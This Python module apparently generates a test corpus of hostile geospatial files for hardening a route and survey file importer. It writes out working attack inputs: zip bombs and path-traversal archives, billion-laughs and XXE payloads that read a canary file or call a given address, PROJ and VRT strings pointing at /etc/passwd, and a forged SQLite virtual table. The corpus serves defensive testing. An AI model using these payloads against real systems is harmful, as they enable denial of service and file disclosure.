"""Route and survey files made to crash, fill, stall or spy on whoever reads them.

``write_corpus`` makes them; nothing of it is stored. Files that point elsewhere point at a canary,
a file whose text must turn up nowhere, or at an address where somebody counts the callers.
"""

from __future__ import annotations

import io
import os
import sqlite3
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

__all__ = ["CANARY", "line_samples", "write_corpus"]

CANARY = "otter-under-the-weir"

LINE = ((7.1, 46.3), (7.11, 46.31), (7.12, 46.29))
GEOJSON = b'{"type": "LineString", "coordinates": [[7.1, 46.3], [7.11, 46.31], [7.12, 46.29]]}'
COORDINATES = "7.1,46.3,9 7.11,46.31,8 7.12,46.29,7"
KML = (
    '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>weir</name><LineString>'
    f"<coordinates>{COORDINATES}</coordinates></LineString></Placemark></Document></kml>"
)
GPX = (
    '<gpx version="1.1"><trk><name>walk</name><trkseg>'
    + "".join(f'<trkpt lat="{lat}" lon="{lon}"><ele>9</ele></trkpt>' for lon, lat in LINE)
    + "</trkseg></trk></gpx>"
)
CSV = "name,lon,lat,elevation\na,7.1,46.3,9\nb,7.11,46.31,8\nc,7.12,46.29,7\n"
WKT = "LINESTRING (7.1 46.3, 7.11 46.31, 7.12 46.29)"


def wkb_line(points: tuple[tuple[float, float], ...] = LINE) -> bytes:
    """Return well-known binary of a line."""
    return struct.pack("<BII", 1, 2, len(points)) + b"".join(struct.pack("<2d", *p) for p in points)


def gpkg_blob(wkb: bytes, srs: int = 4326) -> bytes:
    """Return a GeoPackage's geometry around well-known binary."""
    return b"GP\x00\x01" + struct.pack("<i", srs) + wkb


def geopackage(
    path: Path, *statements: str, blob: bytes | None = None, table: str = "weir"
) -> None:
    """Write a small GeoPackage, its feature table made by ``statements`` if there are any."""
    path.unlink(missing_ok=True)
    database = sqlite3.connect(path)
    database.execute("pragma application_id = 0x47504B47")
    database.executescript(
        "create table gpkg_spatial_ref_sys (srs_name text, srs_id integer, organization text,"
        " organization_coordsys_id integer, definition text, description text);"
        "insert into gpkg_spatial_ref_sys values ('WGS 84', 4326, 'EPSG', 4326, 'GEOGCS', '');"
        "create table gpkg_contents (table_name text, data_type text, identifier text, srs_id int);"
        "create table gpkg_geometry_columns (table_name text, column_name text,"
        " geometry_type_name text, srs_id integer, z int, m int);"
    )
    database.execute("insert into gpkg_contents values (?, 'features', ?, 4326)", (table, table))
    database.execute(
        "insert into gpkg_geometry_columns values (?, 'geom', 'LINESTRING', 4326, 0, 0)", (table,)
    )
    for statement in statements or (
        "create table weir (fid integer primary key, geom, name text)",
    ):
        database.execute(statement)
    if blob is not None:
        database.execute("insert into weir (geom, name) values (?, 'weir')", (blob,))
    database.commit()
    database.close()


def shapefile(folder: Path) -> dict[str, bytes]:
    """Return the parts of a small shapefile of one line.

    Source: ESRI Shapefile Technical Description, July 1998 (from memory of the publication).
    """
    body = struct.pack("<i4d2i1i", 3, 7.1, 46.29, 7.12, 46.31, 1, 3, 0)
    body += b"".join(struct.pack("<2d", *point) for point in LINE)
    record = struct.pack(">2i", 1, len(body) // 2) + body

    def head(length: int) -> bytes:
        box = (7.1, 46.29, 7.12, 46.31, 0.0, 0.0, 0.0, 0.0)
        return struct.pack(">7i", 9994, 0, 0, 0, 0, 0, length // 2) + struct.pack(
            "<2i8d", 1000, 3, *box
        )

    return {
        ".shp": head(100 + len(record)) + record,
        ".shx": head(108) + struct.pack(">2i", 50, len(body) // 2),
    }


def zipped(*members: tuple[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a zip of members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as pack:
        for name, content in members:
            pack.writestr(name, content)
    return buffer.getvalue()


def line_samples(folder: Path) -> dict[str, bytes]:
    """Return a sound file of every format by its name."""
    path = folder / "sample.gpkg"
    geopackage(path, blob=gpkg_blob(wkb_line()))
    parts = shapefile(folder)
    return {
        "a.geojson": GEOJSON,
        "a.gpx": GPX.encode(),
        "a.kml": KML.encode(),
        "a.kmz": zipped(("doc.kml", KML.encode())),
        "a.csv": CSV.encode(),
        "a.wkt": WKT.encode(),
        "a.gpkg": path.read_bytes(),
        "a.shp": parts[".shp"],
        "a.zip": zipped(*((f"a{ending}", content) for ending, content in parts.items())),
    }


def write_corpus(folder: Path, *, address: str) -> dict[str, Path]:
    """Write every hostile file into ``folder``; return them by name. ``address`` is an URL."""
    canary = folder.parent / "canary.kml"
    canary.write_text(KML.replace("weir", CANARY), encoding="utf-8")
    made: dict[str, Path] = {}

    def put(name: str, data: bytes | str) -> None:
        made[name] = folder / name
        made[name].write_bytes(data.encode() if isinstance(data, str) else data)

    _packed(put, canary)
    _markup(put, canary, address)
    _json(put)
    _text(put)
    _shapefiles(put, folder)
    _databases(folder, made, canary)
    fifo = folder / "pipe.gpx"
    os.mkfifo(fifo)
    made["pipe.gpx"] = fifo
    (folder / "zero.gpx").symlink_to("/dev/zero")
    made["zero.gpx"] = folder / "zero.gpx"
    return made


Put = Callable[[str, "bytes | str"], None]


def _packed(put: Put, canary: Path) -> None:
    blank = b" " * (70 * 1024 * 1024)
    put("bomb.zip", zipped(("a.geojson", blank)))
    put("bomb-in-two.zip", zipped(("a.kml", blank[: 2**25]), ("b.kml", blank[: 2**26])))
    put("bomb-nested.zip", zipped(("a.geojson", zipped(("b.geojson", blank)))))
    put("many.zip", zipped(*((f"{i}.kml", b"") for i in range(20_000))))
    put("up.kmz", zipped(("../../canary.kml", KML.encode())))
    put("root.kmz", zipped((str(canary), KML.encode())))
    put("up-shape.zip", zipped(*((f"../../a{e}", c) for e, c in shapefile(Path()).items())))
    link = zipfile.ZipInfo("doc.kml")
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as pack:
        pack.writestr(link, str(canary))
    put("link.kmz", buffer.getvalue())
    sound = zipped(("doc.kml", KML.encode()))
    put(
        "locked.kmz",
        sound.replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"),
    )
    put("cut.kmz", sound[: len(sound) // 2])
    put("wrong-size.kmz", sound.replace(struct.pack("<I", len(KML)), struct.pack("<I", 2**31)))
    put("empty.zip", zipped())


def _markup(put: Put, canary: Path, address: str) -> None:
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    put("laughs.gpx", f'<!DOCTYPE gpx [<!ENTITY l0 "ha">{laughs}]><gpx><name>&l11;</name></gpx>')
    put(
        "quadratic.kml",
        f'<!DOCTYPE kml [<!ENTITY a "{"x" * 100_000}">]><kml>{"&a;" * 100_000}</kml>',
    )
    put(
        "entity.kml",
        f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{canary.as_uri()}">]><kml><Placemark><name>&x;</name>'
        f"<LineString><coordinates>{COORDINATES}</coordinates></LineString></Placemark></kml>",
    )
    put(
        "entity-16.kml",
        made_utf16(f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{address}">]><kml>&x;</kml>'),
    )
    put("dtd.gpx", f'<!DOCTYPE gpx SYSTEM "{address}/gpx.dtd"><gpx/>')
    put("parameter.gpx", f'<!DOCTYPE gpx [<!ENTITY % p SYSTEM "{address}"> %p;]><gpx/>')
    put(
        "network-link.kml",
        f"<kml><NetworkLink><Link><href>{address}/line.kml</href></Link></NetworkLink>"
        f"<NetworkLink><Link><href>{canary.as_uri()}</href></Link></NetworkLink></kml>",
    )
    put(
        "include.kml",
        '<kml xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="'
        f'{canary.as_uri()}"/></kml>',
    )
    put("deep.kml", "<kml>" + "<Folder>" * 200_000)
    put("deep-wanted.kml", "<kml>" + "<Placemark>" * 200_000)
    put("many.gpx", "<gpx><trk><trkseg>" + '<trkpt lon="1" lat="2"/>' * 800_000)
    put("many-unwanted.gpx", "<gpx>" + "<a/>" * 9_000_000)
    put("attributes.gpx", "<gpx " + " ".join(f'a{i}="1"' for i in range(400_000)) + "/>")
    put(
        "coordinates.kml",
        f"<kml><Placemark><LineString><coordinates>{'1,2 ' * 2_000_000}</coordinates>"
        "</LineString></Placemark></kml>",
    )


def made_utf16(text: str) -> bytes:
    """Return text as XML in two bytes per letter."""
    return ('<?xml version="1.0" encoding="utf-16"?>' + text).encode("utf-16")


def _json(put: Put) -> None:
    put("deep.geojson", '{"type":' * 2_000_000)
    put("deep-lists.geojson", '{"type":"LineString","coordinates":' + "[" * 900_000)
    put("lists.geojson", '{"type":"LineString","coordinates":[' + "[]," * 2_000_000 + "[]]}")
    put("objects.geojson", '{"a":[' + "{}," * 1_000_000 + "{}]}")
    put("zeros.geojson", '{"type":"LineString","coordinates":[' + "0," * 4_000_000 + "0]}")
    put("digits.geojson", '{"type":"LineString","coordinates":[[' + "9" * 5_000_000 + ",1]]}")
    put("many-digits.geojson", '{"a":[' + ",".join(["9" * 4299] * 2000) + "]}")
    put("infinite.geojson", '{"type":"LineString","coordinates":[[1e999,1],[-Infinity,NaN]]}')
    collection = '{"type":"GeometryCollection","geometries":['
    put("collections.geojson", collection * 900 + "]}" * 900)
    put("parts.geojson", _parts(20_000))
    put("parts-in-chain.geojson", _parts(2000))
    put(
        "lines.geojson",
        '{"type":"GeometryCollection","geometries":['
        + ",".join(['{"type":"LineString","coordinates":[[1,2],[1.1,2.1]]}'] * 30_000)
        + "]}",
    )
    put("escape.geojson", '{"type":"LineString","name":"\\u001b[31m","coordinates":[[1,2]]}')
    for name, text in (
        ("grids", "+proj=utm +zone=32 +ellps=GRS80 +nadgrids=/etc/passwd"),
        ("init", "+init=/etc/passwd:root"),
        ("address", "+proj=utm +zone=32 +ellps=GRS80 +nadgrids=https://127.0.0.1:9/x.gsb"),
    ):
        put(
            f"{name}.geojson",
            '{"type":"LineString","coordinates":[[1,2],[2,3]],"crs":{"properties":{"name":"'
            f'{text}"'
            "}}}",
        )
    put(
        "crs.geojson",
        '{"type":"LineString","coordinates":[[1,2],[2,3]],"crs":{"properties":'
        '{"name":"+proj=pipeline +step +proj=hgridshift +grids=/etc/passwd"}}}',
    )


def _parts(count: int) -> str:
    parts = ",".join(f"[[{i / count},1],[{(i + 1) / count},1]]" for i in range(count))
    return '{"type":"MultiLineString","coordinates":[' + parts + "]}"


def _text(put: Put) -> None:
    put("brackets.wkt", "GEOMETRYCOLLECTION " + "(" * 3_000_000)
    put("collections.wkt", "GEOMETRYCOLLECTION (" * 200_000)
    put("points.wkt", "LINESTRING (" + "1 2," * 2_000_000 + "1 2)")
    put("points-many.wkt", "POINT (1 2)\n" * 200_000)
    many = range(900_000)
    put("at-limit.wkt", f"LINESTRING ({','.join(f'{i * 1e-6:.6f} 2' for i in many)})")
    put("at-limit.csv", "lon,lat\n" + "\n".join(f"{i * 1e-6:.6f},2" for i in many))
    put("open.wkt", "LINESTRING (1 2, 3 4")
    put("rows.csv", "lon,lat\n" + "1,2\n" * 3_000_000)
    put("wide.csv", "lon,lat," + "x," * 2_000_000)
    put("quote.csv", 'lon,lat\n"' + "x" * 1_000_000)
    put("lines.csv", "line,lon,lat\n" + "".join(f"{i},1,2\n" for i in range(100_000)))
    put("empty-lines.csv", "lon,lat" + "\n" * 5_000_000)
    put("binary.csv", b"lon,lat\n\x00\x01\x02" * 1000)


def _shapefiles(put: Put, folder: Path) -> None:
    parts = shapefile(folder)
    count = parts[".shp"].index(struct.pack("<2i", 1, 3))
    for name, number in (("claims", 2**31 - 1), ("negative", -1)):
        broken = bytearray(parts[".shp"])
        broken[count : count + 8] = struct.pack("<2i", number, number)
        put(f"{name}.shp", bytes(broken))
        put(f"{name}.shx", parts[".shx"])
    put("far.shp", parts[".shp"])
    put("far.shx", parts[".shx"][:100] + struct.pack(">2i", 2**31 - 1, 2**31 - 1) * 1000)
    put("prj.shp", parts[".shp"])
    put("prj.shx", parts[".shx"])
    put(
        "prj.prj", "<OGRVRTDataSource><SrcDataSource>/etc/passwd</SrcDataSource></OGRVRTDataSource>"
    )
    put("deep-prj.shp", parts[".shp"])
    put("deep-prj.shx", parts[".shx"])
    put("deep-prj.prj", 'PROJCS["a",' * 500_000)


def _databases(folder: Path, made: dict[str, Path], canary: Path) -> None:
    blob = gpkg_blob(wkb_line())

    def put(name: str, *statements: str, blob: bytes | None = None) -> None:
        made[name] = folder / name
        geopackage(made[name], *statements, blob=blob)

    endless = "with recursive n(i) as (select 1 union all select i + 1 from n)"
    put("view.gpkg", f"create view weir as {endless} select i as fid, null as geom from n")
    put(
        "generated.gpkg",
        "create table weir (fid integer primary key, geom, name text,"
        " big as (hex(zeroblob(200000000))))",
        blob=blob,
    )
    put(
        "trigger.gpkg",
        "create table weir (fid integer primary key, geom, name text)",
        "create trigger t after insert on weir begin delete from weir; end",
        blob=None,
    )
    deep = struct.pack("<BII", 1, 7, 1) * 1_000_000
    table = "create table weir (fid integer primary key, geom, name text)"
    put("deep-wkb.gpkg", table, blob=gpkg_blob(deep))
    put("claims.gpkg", table, blob=gpkg_blob(struct.pack("<BII", 1, 2, 2**32 - 1)))
    put("claims-parts.gpkg", table, blob=gpkg_blob(struct.pack("<BII", 1, 5, 2**32 - 1)))
    put("no-blob.gpkg", table, "insert into weir values (1, 'text', 'weir')")
    put(
        "rows.gpkg",
        table,
        "insert into weir with recursive n(i) as (select 1 union all select i + 1 from n limit "
        "300000) select i, null, null from n",
    )
    # A virtual table of GDAL's that would open another file, written past SQLite's own guard.
    put("virtual.gpkg", table, blob=blob)
    database = sqlite3.connect(made["virtual.gpkg"])
    database.execute("pragma writable_schema = on")
    database.execute(
        "update sqlite_master set sql = ? where name = 'weir'",
        (f"CREATE VIRTUAL TABLE weir USING VirtualOGR('{canary}')",),
    )
    database.commit()
    database.close()
    put("columns-view.gpkg", table, blob=blob)
    database = sqlite3.connect(made["columns-view.gpkg"])
    database.executescript(
        "drop table gpkg_geometry_columns; create view gpkg_geometry_columns as "
        f"{endless} select 'weir' as table_name, 'geom' as column_name, 4326 as srs_id from n"
    )
    database.commit()
    database.close()
    put(
        "srs.gpkg",
        table,
        "update gpkg_spatial_ref_sys set organization = 'x', definition = "
        f"'+proj=pipeline +step +proj=hgridshift +grids={canary}'",
        blob=blob,
    )
